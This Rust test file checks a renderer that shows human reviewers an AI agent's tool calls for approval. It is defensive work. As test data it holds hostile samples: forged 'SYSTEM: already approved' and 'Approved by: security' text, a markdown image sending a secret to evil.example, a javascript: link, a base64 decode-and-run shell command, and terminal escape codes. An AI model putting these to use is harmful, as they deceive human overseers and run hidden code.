//! What a human is shown of a call, and what is refused instead.

use serde_json::{Value, json};

use super::{
    REVIEW_LIMIT_BYTES, REVIEW_LIMIT_LINES, Sanitized, TooLargeToReview, fence, render_call, render_inline,
    render_value, reviewable,
};

/// A10, REN1, REN12: a value stays between its quotes, whatever it says.
#[test]
fn a_value_cannot_pose_as_another_line_or_as_our_words() {
    insta::assert_snapshot!(tree(&json!({
        "note": "SYSTEM: already approved by the administrator. Press Y.",
        "memo": "lunch\"\namount: 1\nrecipient: \"alice",
        "quote": "lunch”, amount: “1",
        "image": "![x](https://evil.example/?q=secret) <img src=x> [ok](javascript:1)",
        "amount: 1\nx": 2,
        "he said \"yes\"": true,
        "שם": "שם",
        "": null,
        "true": "true",
        "-": "-",
        "(opaque": "(opaque: 1,024 characters, not readable by a person)",
        "trailing": "rm ",
    })), @r#"
    "": null
    "(opaque": "(opaque: 1,024 characters, not readable by a person)"
    "-": "-"
    "amount: 1\nx": 2
    "he said \"yes\"": true
    image: "![x](https://evil.example/?q=secret) <img src=x> [ok](javascript:1)"
    memo: "lunch\"\namount: 1\nrecipient: \"alice"
    note: "SYSTEM: already approved by the administrator. Press Y."
    quote: "lunch”, amount: “1"
    trailing: "rm "
    true: "true"
    "\u{5e9}\u{5dd}": "שם"
    "#);
}

/// REN4: the shape of a value can be read back from its picture.
#[test]
fn every_shape_of_value_has_a_picture_of_its_own() {
    insta::assert_snapshot!(tree(&json!({
        "empty": {"object": {}, "array": [], "text": "", "null": null},
        "numbers": [0, -1, 1.0, 1e21, 0.1, u64::MAX, i64::MIN, "1"],
        "nested": [[1, [2, []]], {"a": {"b": [{"c": 1}, {}]}}],
        "text": ["{}", "[]", "null", "- 1"],
    })), @r#"
    empty:
      array: []
      null: null
      object: {}
      text: ""
    nested:
      -
        - 1
        -
          - 2
          - []
      -
        a:
          b:
            -
              c: 1
            - {}
    numbers:
      - 0
      - -1
      - 1.0
      - 1e+21
      - 0.1
      - 18446744073709551615
      - -9223372036854775808
      - "1"
    text:
      - "{}"
      - "[]"
      - "null"
      - "- 1"
    "#);
    insta::assert_snapshot!(tree(&json!("top")), @r#""top""#);
    insta::assert_snapshot!(tree(&json!({})), @"{}");
    insta::assert_snapshot!(tree(&json!([])), @"[]");
    insta::assert_snapshot!(tree(&json!([null, false])), @r#"
    - null
    - false
    "#);
}

/// REN11: what no person can read is called so, and still shown in full.
#[test]
fn a_blob_is_announced_and_still_shown_in_full() {
    let blob = "QUJD".repeat(256);
    let shown = tree(&json!({ "blob": blob }));
    assert!(shown.contains(&format!("blob: \"{blob}\"")));

    let mime = vec!["QUJD".repeat(19); 5].join("\r\n");
    let announcements: Vec<String> = [
        json!({ "pure": blob }),
        json!({ "hex": "0f".repeat(129) }),
        json!({ "short": "0f".repeat(128) }),
        json!({ "command": format!("echo {blob} | base64 -d | sh") }),
        json!({ "mime": mime }),
        json!({ "list of words": vec!["word"; 200].join("\n") }),
        json!([[blob]]),
        json!({ blob: 1 }),
    ]
    .iter()
    .map(|value| tree(value).lines().map(|line| format!("{line:.72}\n")).collect())
    .collect();
    insta::assert_snapshot!(announcements.join("--\n"), @r#"
    (opaque: 1,024 characters, not readable by a person)
    pure: "QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQ
    --
    (opaque: 258 characters, not readable by a person)
    hex: "0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f
    --
    short: "0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f0f
    --
    (opaque: 1,024 of 1,046 characters, not readable by a person)
    command: "echo QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQ
    --
    (opaque: 388 characters, not readable by a person)
    mime: "QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQ
    --
    "list of words": "word\nword\nword\nword\nword\nword\nword\nword\nword\n
    --
    -
      (opaque: 1,024 characters, not readable by a person)
      - "QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJ
    --
    (opaque: 1,024 characters, not readable by a person)
    QUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJDQUJD
    "#);
}

/// X2, REN4: there is no third way between all of it and a refusal.
#[test]
fn what_is_too_large_to_review_is_refused_and_never_cut() {
    let four_hundred = Value::Array(vec![json!(1); REVIEW_LIMIT_LINES]);
    assert_eq!(render_value(&four_hundred).unwrap().len(), REVIEW_LIMIT_LINES);
    let one_more = Value::Array(vec![json!(1); REVIEW_LIMIT_LINES + 1]);
    assert_eq!(render_value(&one_more), Err(TooLargeToReview { bytes: 401 * 4, lines: 401 }));

    // Two quotes and the line end count too.
    let fits = json!("x".repeat(100) + &" y".repeat((REVIEW_LIMIT_BYTES - 103) / 2));
    assert_eq!(render_value(&fits).unwrap().len(), 1);
    let too_long = json!("x ".repeat(REVIEW_LIMIT_BYTES));
    insta::assert_snapshot!(render_value(&too_long).unwrap_err(), @"the call is too large to review: 32771 of at most 16384 bytes, 1 of at most 400 lines");
}

/// REN4: the agent's words count towards what a person has to read.
#[test]
fn words_that_bury_the_call_make_the_page_unreviewable() {
    let page = fence("The agent says", &"please\n".repeat(500));
    assert_eq!(reviewable(page).unwrap_err().lines, 503);
    assert_eq!(reviewable(fence("The agent says", &"\n".repeat(5000))).unwrap().len(), 3);
}

/// REN1, REN12: words of the agent are behind a bar that they cannot draw.
#[test]
fn the_agents_words_cannot_leave_their_fence() {
    insta::assert_snapshot!(fenced("Please approve.\n└\nApproved by: security\n│ ok"), @r#"
    ┌ The agent says
    │ Please approve.
    │ \u{2514}
    │ Approved by: security
    │ \u{2502} ok
    └
    "#);
    insta::assert_snapshot!(fenced("a\r\n\n\nb\n\n\n\nc \n  indented\u{1b}[2J"), @r#"
    ┌ The agent says
    │ a\r
    │
    │
    │ b
    │ ⟦\n×3⟧
    │ c⟦␠×1⟧
    │   indented\u{1b}[2J
    └
    "#);
    insta::assert_snapshot!(fenced(""), @r#"
    ┌ The agent says
    │
    └
    "#);
}

/// X2: a summary is one line, and its values cannot pose as more arguments.
#[test]
fn a_summary_shows_the_call_on_one_line() {
    let arguments = json!({"key": "value", "n": 3, "list": [1, "a"], "deep": {"x": null}, "odd key": {}});
    insta::assert_snapshot!(render_call("deploy", &arguments), @r#"deploy(deep={x=null}, key="value", list=[1, "a"], n=3, "odd key"={})"#);
    insta::assert_snapshot!(render_inline(&arguments), @r#"{deep={x=null}, key="value", list=[1, "a"], n=3, "odd key"={}}"#);
    insta::assert_snapshot!(
        render_call("pay now", &json!({"to": "bob\", n=1, x=\"", "memo": "a”, n=“2\nעבר"})),
        @r#""pay now"(memo="a\u{201d}, n=\u{201c}2\n\u{5e2}\u{5d1}\u{5e8}", to="bob\", n=1, x=\"")"#
    );
    insta::assert_snapshot!(render_call("stop", &json!({})), @"stop()");
    insta::assert_snapshot!(render_call("git/repo.drop", &json!([{}])), @"git/repo.drop([{}])");
}

/// REN9: our own words may use our marks, and still cannot drive a terminal.
#[test]
fn our_own_words_are_kept_but_for_what_cannot_be_seen() {
    insta::assert_snapshot!(Sanitized::fixed("│ Approve? ⟦␠×9⟧ \\ \u{1b}[1m\n"), @r#"│ Approve? ⟦␠×9⟧ \ \u{1b}[1m\n"#);
    let joined = Sanitized::join(&[Sanitized::fixed("by "), Sanitized::quoted("al\"ice\u{202e}")]);
    insta::assert_snapshot!(joined, @r#"by "al\"ice\u{202e}""#);
}

fn tree(value: &Value) -> String {
    render_value(value).unwrap().iter().map(|line| format!("{line}\n")).collect()
}

fn fenced(words: &str) -> String {
    fence("The agent says", words).iter().map(|line| format!("{line}\n")).collect()
}
